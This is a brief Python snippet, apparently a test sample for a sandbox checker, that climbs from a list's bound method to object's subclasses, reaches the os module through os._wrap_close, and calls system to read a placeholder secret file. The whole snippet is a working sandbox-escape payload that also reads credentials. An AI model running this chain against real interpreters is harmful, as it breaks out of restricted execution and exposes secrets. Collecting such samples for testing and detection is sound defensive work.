# A bound method of a built-in object leads to the object, its class and onwards.
# effect: run
append = [].append
root = append.__self__.__class__.__base__
kinds = {k.__name__: k for k in root.__subclasses__()}
kinds["_wrap_close"].__exit__.__globals__["system"]("cat @SECRET@")
